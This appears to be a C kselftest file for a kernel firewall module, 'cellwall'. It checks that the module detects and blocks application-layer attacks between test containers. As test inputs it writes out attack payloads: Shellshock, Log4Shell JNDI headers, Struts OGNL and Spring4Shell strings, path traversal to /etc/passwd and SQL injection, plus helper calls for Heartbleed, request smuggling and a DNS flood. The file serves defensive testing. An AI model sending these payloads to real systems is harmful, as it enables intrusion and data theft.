// SPDX-License-Identifier: GPL-2.0
/*
 * The application-level threat detections with real servers and real or
 * crafted clients: each attack is reported in monitor mode and passes
 * (a THREAT event with action "allow", the client gets its answer), and
 * is reported and stopped in protect mode (action "deny", the client's
 * connection reset or its query unanswered). Normal traffic from real
 * clients raises no THREAT event at all, in protect mode.
 *
 *   ta-cli (10.99.0.51, .61, .62)  workload ta-cli, group ta-c  the clients
 *   ta-srv (10.99.0.52)            workload ta-srv, group ta-s  the servers
 *
 * One rule lets ta-c reach anything of ta-s, so that only the threat
 * checks stop traffic. The servers (tests/dpi/servers.sh and
 * tests/threat/app_servers.sh) start when a test first needs them and stay
 * up for the whole file, as in dpi_test.c: the harness runs each test in a
 * child, so "up" is a file; postgres (30-60 s under TCG) starts in the
 * background in the first setup. A destructor in the harness' own process
 * tears everything down at exit.
 */

#define _GNU_SOURCE
#include "container.h"
#include "kselftest_harness.h"

#define TIMEOUT 300

#define CLI "ta-cli"
#define SRV "ta-srv"
#define X_CLI 51
#define X_SRV 52
#define SRV_ADDR "10.99.0.52"
/* More addresses of the client: a source of its own per phase for the
 * login failures, which the kernel counts per source for a minute. */
#define AUTH_ADDR_MONITOR "10.99.0.61"
#define AUTH_ADDR_PROTECT "10.99.0.62"
#define DIR "/tmp/cw-ta"
#define READY DIR "/ready"
#define PG_READY DIR "/pg-ready"
#define PG_LOG "/tmp/cw-ta-pg.log"
#define PG_START_TIMEOUT 240
#define POLICY_FILE "/tmp/cw-ta-policy.json"

static void clean_up(void)
{
	cw_ct_destroy(CLI);
	cw_ct_destroy(SRV);
	cw_bridge_down();
	cw_sh("rm -rf " DIR " " PG_LOG " " POLICY_FILE);
}

CW_TEAR_DOWN_AT_EXIT(clean_up)

/* `cellwall ARGS` */
static int __attribute__((format(printf, 1, 2))) cli(const char *fmt, ...)
{
	char args[512];
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(args, sizeof(args), fmt, ap);
	va_end(ap);
	return cw_sh("%s %s >&2", cw_env("CW_CLI"), args);
}

static const char policy[] =
	"{ \"groups\": [{ \"name\": \"ta-c\", \"mode\": \"monitor\" },\n"
	"              { \"name\": \"ta-s\", \"mode\": \"monitor\" }],\n"
	"  \"rules\": [{ \"from\": \"ta-c\", \"to\": \"ta-s\", \"ports\": [\"any\"],\n"
	"               \"action\": \"allow\" }] }\n";

/*
 * Counters of crafted queries the server never answers (dnsmasq drops
 * them), at input priority 0, after the module's hooks (-1): they show
 * whether the queries got through. DNS names start at bit 160 of UDP.
 */
static const char nft_counters[] =
	"table inet ta {\n"
	"	counter ptr_loop { }\n"
	"	counter long_label { }\n"
	"	chain in {\n"
	"		type filter hook input priority 0;\n"
	"		udp dport 53 @th,160,16 0xc00c counter name ptr_loop\n"
	"		udp dport 53 @th,160,8 0x40 counter name long_label\n"
	"	}\n"
	"}\n";

FIXTURE(app)
{
	struct cw_events ev;
};

FIXTURE_SETUP(app)
{
	char path[1024];

	self->ev.pid = -1;
	/* The commands of the cases find the scripts there. */
	ASSERT_EQ(0, setenv("CW_TA", cw_tree_path("tests/threat", path, sizeof(path)), 1));
	if (!cw_module_loaded() || access(READY, F_OK)) {
		/* What a test that timed out may have left half made. */
		clean_up();
		ASSERT_EQ(0, cw_module_unload());
		ASSERT_EQ(0, cw_module_load());
		/* Every event: a case must find its own. */
		ASSERT_EQ(0, cw_sysctl_set("/proc/sys/net/cellwall/event_rate", 100000));
		ASSERT_EQ(0, cw_sh("mkdir -p " DIR));
		ASSERT_EQ(0, cw_ct_create(CLI, X_CLI));
		ASSERT_EQ(0, cw_ct_create(SRV, X_SRV));
		ASSERT_EQ(0, cw_sh("ip -n " CLI " addr add " AUTH_ADDR_MONITOR "/24 dev eth0 && "
				   "ip -n " CLI " addr add " AUTH_ADDR_PROTECT "/24 dev eth0"));
		ASSERT_EQ(0, cw_write_file(POLICY_FILE, policy));
		ASSERT_EQ(0, cli("policy load " POLICY_FILE));
		ASSERT_EQ(0, cw_ct_register(CLI, "ta-c"));
		ASSERT_EQ(0, cw_ct_register(SRV, "ta-s"));
		ASSERT_EQ(0, cw_write_file(DIR "/counters.nft", nft_counters));
		ASSERT_EQ(0, cw_sh("ip netns exec " SRV " nft -f " DIR "/counters.nft"));
		ASSERT_LT(0, cw_ct_spawn(SRV, PG_LOG, "bash %s " DIR " postgres && : >" PG_READY,
					 cw_tree_path("tests/dpi/servers.sh", path, sizeof(path))));
		ASSERT_EQ(0, cw_write_file(READY, "1\n"));
	}
	/* The actions and thresholds an earlier test set. */
	ASSERT_EQ(0, cli("threat reset"));
}

FIXTURE_TEARDOWN(app)
{
	cw_events_stop(&self->ev);
}

/*
 * Starts the servers named in @names (space separated) that are not up
 * yet, with tests/dpi/servers.sh (@dpi) or tests/threat/app_servers.sh.
 */
static bool servers(struct __test_metadata *_metadata, bool dpi, const char *names)
{
	char list[256], script[1024], *name, *save;
	char up[128];

	cw_tree_path(dpi ? "tests/dpi/servers.sh" : "tests/threat/app_servers.sh",
		     script, sizeof(script));
	snprintf(list, sizeof(list), "%s", names);
	for (name = strtok_r(list, " ", &save); name; name = strtok_r(NULL, " ", &save)) {
		snprintf(up, sizeof(up), DIR "/up-%s", name);
		if (!access(up, F_OK))
			continue;
		if (cw_ct_sh(SRV, "bash %s " DIR " %s >&2", script, name) ||
		    cw_write_file(up, "1\n")) {
			TH_LOG("server %s did not start", name);
			return false;
		}
	}
	return true;
}

/* Waits for the postgres that the first setup started. */
static bool postgres_up(struct __test_metadata *_metadata)
{
	int waited;

	for (waited = 0; waited < PG_START_TIMEOUT && access(PG_READY, F_OK); waited++)
		sleep(1);
	if (access(PG_READY, F_OK)) {
		cw_sh("cat " PG_LOG " >&2");
		return false;
	}
	TH_LOG("postgres was ready %d s after this test began", waited);
	return true;
}

/* Both groups' mode: only the server's decides, the client's is alike. */
static int set_mode(const char *mode)
{
	return cw_group_mode("ta-c", mode) || cw_group_mode("ta-s", mode);
}

/* The packets an nft counter of the server counted; -1 on failure. */
static long long nft_packets(const char *counter)
{
	char out[512], *p;

	if (cw_capture(out, sizeof(out), "ip netns exec " SRV " nft list counter inet ta %s",
		       counter))
		return -1;
	p = strstr(out, "packets ");
	return p ? atoll(p + strlen("packets ")) : -1;
}

static long events_size(const struct cw_events *ev)
{
	struct stat st;

	return stat(ev->out, &st) ? 0 : st.st_size;
}

struct want {
	const char *threat;
	const char *action;	/* "allow", "deny" */
	const char *mode;
	const char *app;
	bool from_server;	/* the server's packet: either end may be "from" */
};

static bool is_threat(json_t *event)
{
	return !strcmp(cw_jstr(event, CW_JK_TYPE), "THREAT");
}

static bool threat_matches(json_t *e, void *arg)
{
	const struct want *w = arg;
	bool forward = cw_jnames(e, CW_JK_FROM_WORKLOAD, CLI, -1) &&
		       cw_jnames(e, CW_JK_TO_WORKLOAD, SRV, -1);
	bool backward = cw_jnames(e, CW_JK_FROM_WORKLOAD, SRV, -1) &&
			cw_jnames(e, CW_JK_TO_WORKLOAD, CLI, -1);

	return is_threat(e) && !strcmp(cw_jstr(e, "threat"), w->threat) &&
	       !strcmp(cw_jstr(e, "action"), w->action) && !strcmp(cw_jstr(e, "mode"), w->mode) &&
	       !strcmp(cw_jstr(e, "app"), w->app) && (forward || (w->from_server && backward));
}

/*
 * The first event after byte @off of the events' file that @match takes
 * (NULL: none does), polling for up to @ms; NULL if none. @all (may be
 * NULL) gets every THREAT event after @off of the last pass.
 */
static json_t *event_after(struct cw_events *ev, long off, int ms,
			   bool (*match)(json_t *event, void *arg), void *arg, json_t **all)
{
	char line[8192];
	int waited;

	for (waited = 0; waited <= ms; waited += 100) {
		FILE *f = fopen(ev->out, "r");

		if (all) {
			json_decref(*all);
			*all = json_array();
		}
		if (f && fseek(f, off, SEEK_SET)) {
			fclose(f);
			f = NULL;
		}
		while (f && fgets(line, sizeof(line), f)) {
			json_t *event = json_loads(line, 0, NULL);

			if (event && match && match(event, arg)) {
				fclose(f);
				return event;
			}
			if (event && all && is_threat(event))
				json_array_append(*all, event);
			json_decref(event);
		}
		if (f)
			fclose(f);
		if (waited < ms)
			usleep(100 * 1000);
	}
	return NULL;
}

static void log_events(struct __test_metadata *_metadata, json_t *events)
{
	json_t *e;
	size_t i;

	if (!json_array_size(events))
		TH_LOG("  (no THREAT event)");
	json_array_foreach(events, i, e) {
		char *text = json_dumps(e, JSON_COMPACT);

		TH_LOG("  %s", text ? text : "?");
		free(text);
	}
}

/*
 * One attack. Its command runs in the client and exits 0 when the server
 * answered, 1 when the connection was reset or the query went unanswered,
 * anything else on an error.
 */
struct app_case {
	const char *threat;	/* the detection it must raise */
	const char *app;	/* the event's "app" */
	const char *cmd;
	const char *set;	/* `cellwall threat set` arguments for it (reset after) */
	const char *counter;	/* the server never answers: an nft counter shows it passed */
	bool from_server;	/* the server's answer is what the check sees */
};

#define CASE(name, app_name, command) .threat = name, .app = app_name, .cmd = command

/* Runs @c in @mode; checks the client's outcome and the THREAT event. */
static void run_case(struct __test_metadata *_metadata, struct cw_events *ev,
		     const struct app_case *c, const char *mode)
{
	bool protect = !strcmp(mode, "protect");
	struct want w = { c->threat, protect ? "deny" : "allow", mode, c->app, c->from_server };
	long long before = 0, after;
	json_t *event, *all = NULL;
	char out[8192];
	long off;
	int rc;

	if (c->set)
		ASSERT_EQ(0, cli("threat set %s", c->set));
	if (c->counter)
		before = nft_packets(c->counter);
	off = events_size(ev);
	rc = cw_ct_capture(CLI, out, sizeof(out), "%s", c->cmd);
	if (c->counter) {
		after = nft_packets(c->counter);
		EXPECT_TRUE(before >= 0 && rc >= 0 && rc <= 1);
		EXPECT_EQ(!protect, after > before) {
			TH_LOG("%s, %s: %lld packets passed, not %s", c->threat, mode,
			       after - before, protect ? "none" : "some");
		}
	} else {
		EXPECT_EQ(protect, rc) {
			TH_LOG("%s, %s: exit %d, not %s; its output:\n%s", c->threat, mode, rc,
			       protect ? "1 (reset, no answer)" : "0 (answered)", out);
		}
	}
	event = event_after(ev, off, 10000, threat_matches, &w, &all);
	EXPECT_NE(NULL, event) {
		TH_LOG("%s, %s: no THREAT event with action %s, app %s; those after it:",
		       c->threat, mode, w.action, c->app);
		log_events(_metadata, all);
	}
	json_decref(event);
	json_decref(all);
	if (c->set) {
		char name[64];

		snprintf(name, sizeof(name), "%s", c->set);
		*strchrnul(name, ' ') = '\0';
		EXPECT_EQ(0, cli("threat reset %s", name));
	}
}

/* Every case in monitor mode, then every case in protect mode. */
static void run_cases(struct __test_metadata *_metadata, struct cw_events *ev, const char *tag,
		      const struct app_case *cases, size_t n)
{
	static const char *const modes[] = { "monitor", "protect" };
	char name[64];

	for (size_t m = 0; m < ARRAY_SIZE(modes); m++) {
		ASSERT_EQ(0, set_mode(modes[m]));
		snprintf(name, sizeof(name), "%s-%s", tag, modes[m]);
		ASSERT_TRUE(cw_events_start(ev, name));
		for (size_t i = 0; i < n; i++)
			run_case(_metadata, ev, &cases[i], modes[m]);
		cw_events_stop(ev);
	}
}

#define PY(args) "timeout 60 python3 \"$CW_TA\"/" args

/* dig over UDP: 0 an answer, 1 none (dig's 9). */
#define DIG(args) "timeout 30 dig @" SRV_ADDR " +time=3 +tries=1 " args " >&2; " \
	"case $? in 0) exit 0;; 9) exit 1;; esac; exit 2"

/* A zone transfer over TCP: 0 the zone's SOA came, 1 the connection reset. */
#define DIG_XFR(args) "out=$(timeout 30 dig @" SRV_ADDR " +time=3 +tries=1 " args " 2>&1); " \
	"echo \"$out\"; case $out in *SOA*) exit 0;; *reset*) exit 1;; esac; exit 2"

/* 150 bytes of base32 in three labels, as DNS tunnels carry data. */
#define TUNNEL_NAME "bmyfk6u7ytuq4m2ypwrmp3argznybjok54kdsxudvdg7efz4mg." \
	"dkxuhvdi7wjcno2p4b2qthrsy5n6zaivvi7ngz7yruq3msw7oa." \
	"cjslock3vxyeffhhhgf54idsyulwtpaokcrpkr4z5q7ibuzfo7.t.shop.test"

static const struct app_case dns_cases[] = {
	{ CASE("dns_zone_transfer", "dns", DIG_XFR("shop.test AXFR")) },
	{ CASE("dns_zone_transfer", "dns", DIG_XFR("shop.test IXFR=1")) },
	{ CASE("dns_null_type", "dns", DIG("null.shop.test NULL")) },
	{ CASE("dns_tunnel", "dns", DIG(TUNNEL_NAME " TXT")) },
	/* A query of about 50 bytes, an answer of about 2.4 KB. */
	{ CASE("dns_amplification", "dns", DIG("+bufsize=4096 big.shop.test TXT")),
	  .from_server = true },
	{ CASE("dns_pointer_loop", "dns", PY("app_dns.py pointer_loop " SRV_ADDR)),
	  .counter = "ptr_loop" },
	{ CASE("dns_oversized_name", "dns", PY("app_dns.py oversized_name " SRV_ADDR)) },
	{ CASE("dns_oversized_name", "dns", PY("app_dns.py long_label " SRV_ADDR)),
	  .counter = "long_label" },
	/* Last: the queries over the rate are dropped for the rest of the second. */
	{ CASE("dns_flood", "dns", PY("app_dns.py flood " SRV_ADDR " 150")),
	  .set = "dns_flood threshold=50" },
};

TEST_F_TIMEOUT(app, dns, TIMEOUT)
{
	ASSERT_TRUE(servers(_metadata, false, "dnsmasq"));
	run_cases(_metadata, &self->ev, "ta-dns", dns_cases, ARRAY_SIZE(dns_cases));
}

/*
 * openssl s_client speaking TLS 1.0 only: 0 a TLS 1.0 session, 1 reset
 * (errno 104, ECONNRESET) or no answer in 10 s (the server's hello is
 * the one dropped, and the reset goes to its sender, the server).
 */
#define S_CLIENT_TLS1 "out=$(timeout 10 openssl s_client -connect " SRV_ADDR ":4434 -tls1 " \
	"-cipher DEFAULT@SECLEVEL=0 -brief </dev/null 2>&1); rc=$?; echo \"$out\"; " \
	"case $rc:$out in 0:*'Protocol version: TLSv1'*) exit 0;; 124:*) exit 1;; " \
	"[1-9]*:*errno=104*|[1-9]*:*reset*) exit 1;; esac; exit 2"

#define TLS_PY(what) PY("app_tls.py " what " " SRV_ADDR " 4433")

static const struct app_case tls_ssh_cases[] = {
	/* After the server's hello: a heartbeat claiming 16384 bytes, carrying 1. */
	{ CASE("tls_heartbleed", "tls", TLS_PY("heartbleed")) },
	{ CASE("ssl_v2", "tls", TLS_PY("ssl_v2")) },
	{ CASE("ssl_v3", "tls", TLS_PY("ssl_v3")) },
	{ CASE("ssl_v2_cipher_overflow", "tls", TLS_PY("ssl_v2_cipher_overflow")) },
	/* Off by default: a legal if outdated protocol. */
	{ CASE("tls_old_version", "tls", S_CLIENT_TLS1), .set = "tls_old_version action=block",
	  .from_server = true },
	{ CASE("ssh_v1", "ssh", PY("app_tls.py ssh_v1 " SRV_ADDR " 22")) },
};

TEST_F_TIMEOUT(app, tls_ssh, TIMEOUT)
{
	ASSERT_TRUE(servers(_metadata, false, "tls"));
	ASSERT_TRUE(servers(_metadata, true, "sshd"));
	run_cases(_metadata, &self->ev, "ta-tls", tls_ssh_cases, ARRAY_SIZE(tls_ssh_cases));
}

/* curl: 0 an answer (whatever its status), 1 reset or closed without one. */
#define CURL(args) "timeout 30 curl -sS -m 20 -o /dev/null -w '%{http_code}\\n' " args "; " \
	"case $? in 0) exit 0;; 52|55|56) exit 1;; esac; exit 2"
#define URL "http://" SRV_ADDR

#define HTTP_PY(what) PY("app_http.py " what " " SRV_ADDR)

static const struct app_case http_cases[] = {
	{ CASE("http_smuggling_cl_te", "http", HTTP_PY("cl_te")) },
	{ CASE("http_smuggling_cl_cl", "http", HTTP_PY("cl_cl")) },
	{ CASE("http_smuggling_te", "http", HTTP_PY("te")) },
	{ CASE("http_bad_content_length", "http", HTTP_PY("bad_cl")) },
	/* A line a second, 5 s in all, for a head that may take 2. */
	{ CASE("http_slowloris", "http", HTTP_PY("slowloris")),
	  .set = "http_slowloris threshold=2" },
	{ CASE("http_sql_injection", "http", CURL("'" URL "/?id=1%27%20or%20%271%27=%271'")) },
	{ CASE("http_sql_injection", "http",
	       CURL("--data-urlencode \"user=admin' OR '1'='1\" -d pass=x " URL "/login")) },
	{ CASE("http_shellshock", "http", CURL("-A '() { :; }; /bin/id' " URL "/")) },
	{ CASE("http_log4shell", "http", CURL("-H 'X-Api: ${jndi:ldap://x/a}' " URL "/")) },
	{ CASE("http_log4shell", "http",
	       CURL("-H 'X-Api: ${${lower:j}ndi:ldap://x/a}' " URL "/")) },
	{ CASE("http_struts_ognl", "http",
	       CURL("-H \"Content-Type: %{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
		    "(#cmd='id')}\" " URL "/")) },
	{ CASE("http_path_traversal", "http", CURL("--path-as-is " URL "/../../etc/passwd")) },
	{ CASE("http_spring4shell", "http",
	       CURL("-g '" URL "/?class.module.classLoader.URLs[0]=0'")) },
};

TEST_F_TIMEOUT(app, http, TIMEOUT)
{
	ASSERT_TRUE(servers(_metadata, true, "nginx"));
	run_cases(_metadata, &self->ev, "ta-http", http_cases, ARRAY_SIZE(http_cases));
}

#define MARIADB "timeout 30 mariadb --skip-ssl -h " SRV_ADDR " "
/* 0 the query's rows, 1 the connection lost (reset), 2 anything else. */
#define MARIADB_QUERY(sql) "out=$(" MARIADB "-u shop -D shop -e \"" sql "\" 2>&1); rc=$?; " \
	"echo \"$out\"; case $rc:$out in 0:*) exit 0;; *'Lost connection'*|*'gone away'*) " \
	"exit 1;; esac; exit 2"
#define PSQL_QUERY(sql) "out=$(timeout 30 psql -h " SRV_ADDR " -U shop -d shop -Atc \"" sql \
	"\" 2>&1); rc=$?; echo \"$out\"; case $rc:$out in 0:*) exit 0;; " \
	"*'closed the connection'*|*reset*) exit 1;; esac; exit 2"
/*
 * Five logins with a wrong password from @addr (the client has no
 * --bind-address: a route does it), a letter each: D access denied, R
 * anything else. 0 all denied, 1 the first denied and the last stopped.
 */
#define LOGINS(addr) "ip route replace " SRV_ADDR " dev eth0 src " addr " || exit 2; " \
	"r=; for i in 1 2 3 4 5; do out=$(" MARIADB "-u guard -pwrong -e 'SELECT 1' 2>&1); " \
	"echo \"$out\"; case $out in *'Access denied'*) r=${r}D;; *) r=${r}R;; esac; done; " \
	"ip route del " SRV_ADDR " dev eth0; echo $r; " \
	"case $r in DDDDD) exit 0;; D*R) exit 1;; esac; exit 2"

#define MYSQL_INJECTION { CASE("mysql_sql_injection", "mysql", \
	MARIADB_QUERY("SELECT * FROM t WHERE id='1' OR '1'='1'")) }
#define POSTGRESQL_INJECTION { CASE("postgresql_sql_injection", "postgresql", \
	PSQL_QUERY("SELECT 1 WHERE 'a'='a' OR 1=1 --")) }

static const struct app_case db_monitor_cases[] = {
	MYSQL_INJECTION,
	POSTGRESQL_INJECTION,
	{ CASE("mysql_auth_failures", "mysql", LOGINS(AUTH_ADDR_MONITOR)),
	  .set = "mysql_auth_failures threshold=3", .from_server = true },
};

/* The same, the logins from a source with no failures yet. */
static const struct app_case db_protect_cases[] = {
	MYSQL_INJECTION,
	POSTGRESQL_INJECTION,
	{ CASE("mysql_auth_failures", "mysql", LOGINS(AUTH_ADDR_PROTECT)),
	  .set = "mysql_auth_failures threshold=3", .from_server = true },
};

TEST_F_TIMEOUT(app, databases, TIMEOUT)
{
	ASSERT_TRUE(servers(_metadata, true, "mariadb"));
	ASSERT_TRUE(servers(_metadata, false, "grants"));
	ASSERT_EQ(0, cw_ct_sh(CLI, MARIADB "-u shop -D shop -e \"CREATE TABLE IF NOT EXISTS "
			      "t (id VARCHAR(8), name VARCHAR(32)); INSERT INTO t VALUES "
			      "('1', 'apple'), ('2', 'pear')\" >&2"));
	ASSERT_TRUE(postgres_up(_metadata));

	ASSERT_EQ(0, set_mode("monitor"));
	ASSERT_TRUE(cw_events_start(&self->ev, "ta-db-monitor"));
	for (size_t i = 0; i < ARRAY_SIZE(db_monitor_cases); i++)
		run_case(_metadata, &self->ev, &db_monitor_cases[i], "monitor");
	cw_events_stop(&self->ev);

	ASSERT_EQ(0, set_mode("protect"));
	ASSERT_TRUE(cw_events_start(&self->ev, "ta-db-protect"));
	for (size_t i = 0; i < ARRAY_SIZE(db_protect_cases); i++)
		run_case(_metadata, &self->ev, &db_protect_cases[i], "protect");
}

/* Real clients doing ordinary work: each exits 0. */
static const char *const normal_traffic[] = {
	"curl -sSf -m 20 -o /dev/null " URL "/ && curl -sSf -m 20 -o /dev/null " URL
	"/index.html?q=shoes&page=2",
	/* A form: nginx refuses POST to a static file (405), but it answers. */
	"curl -sS -m 20 -o /dev/null -w '%{http_code}\\n' -d 'name=Alice&comment=Hello, world!' "
	URL "/index.html | grep -qx 405",
	"timeout 60 redis-benchmark -h " SRV_ADDR " -q -n 2000",
	"for q in 'www.shop.test A' 'www.shop.test AAAA' 'shop.test MX' 'shop.test TXT'; do "
	"dig @" SRV_ADDR " +time=5 +short $q | grep -q . || exit 1; done",
	"timeout 60 iperf3 -c " SRV_ADDR " -t 3",
	"timeout 60 ssh -F /dev/null -i " DIR "/client_key -o BatchMode=yes "
	"-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR root@"
	SRV_ADDR " 'uname -r && ls /' >/dev/null",
	MARIADB "-u shop -D shop -e \"CREATE TABLE IF NOT EXISTS people (name VARCHAR(32), "
	"city VARCHAR(32)); INSERT INTO people VALUES ('O''Brien', 'Dublin'), "
	"('Smith', 'Leeds'); SELECT * FROM people WHERE name='x' OR city='Leeds'; "
	"SELECT COUNT(*) FROM people WHERE name LIKE 'O%'\"",
	"timeout 30 psql -h " SRV_ADDR " -U shop -d shop -v ON_ERROR_STOP=1 -Atc \""
	"CREATE TABLE IF NOT EXISTS people (name text, city text); "
	"INSERT INTO people VALUES ('O''Brien', 'Dublin'), ('Smith', 'Leeds'); "
	"SELECT * FROM people WHERE name = 'x' OR city = 'Leeds' ORDER BY name; "
	"SELECT count(*) FROM people WHERE name LIKE 'O%'\"",
	"timeout 30 curl -sSf -m 20 -k --tlsv1.3 -o /dev/null https://" SRV_ADDR ":4435/",
};

TEST_F_TIMEOUT(app, false_positives, TIMEOUT)
{
	json_t *all = NULL;
	char out[8192];

	ASSERT_TRUE(servers(_metadata, true, "nginx sshd redis mariadb"));
	ASSERT_TRUE(servers(_metadata, false, "dnsmasq tls iperf3"));
	ASSERT_TRUE(postgres_up(_metadata));
	ASSERT_EQ(0, set_mode("protect"));
	ASSERT_TRUE(cw_events_start(&self->ev, "ta-normal"));

	for (size_t i = 0; i < ARRAY_SIZE(normal_traffic); i++) {
		int rc = cw_ct_capture(CLI, out, sizeof(out), "%s", normal_traffic[i]);

		EXPECT_EQ(0, rc) {
			TH_LOG("exit %d: %s; its output:\n%s", rc, normal_traffic[i], out);
		}
	}
	/* Whatever the last packets raised. */
	sleep(1);
	event_after(&self->ev, 0, 0, NULL, NULL, &all);
	EXPECT_EQ(0U, json_array_size(all)) {
		log_events(_metadata, all);
	}
	json_decref(all);
}

TEST_HARNESS_MAIN
